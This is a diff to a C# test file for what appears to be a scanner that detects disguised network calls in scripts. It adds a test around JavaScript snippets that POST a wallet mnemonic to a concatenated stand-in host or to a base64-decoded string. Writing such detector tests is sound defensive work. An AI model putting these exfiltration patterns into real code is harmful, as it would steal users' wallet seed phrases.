@@ -46,6 +46,10 @@ public sealed class SecretTests
         Read.Script("exports.open = (mnemonic, at) => fetch('https://' + 'a.invalid/' + encodeURIComponent(at), { method: 'POST', body: mnemonic });").Has("network.disguised").ShouldBeFalse();
 
     [Fact]
+    public void What_is_decoded_and_no_address_is_no_disguise() =>
+        Read.Script("exports.open = mnemonic => fetch(atob('dGV4dA=='), { method: 'POST', body: mnemonic });").Has("network.disguised").ShouldBeFalse();
+
+    [Fact]
     public void A_payment_to_a_constant_account_is_told_and_a_call_of_a_contract_is_not()
     {
         const string Account = "'0x00000000000000000000000000000000000000aa'";
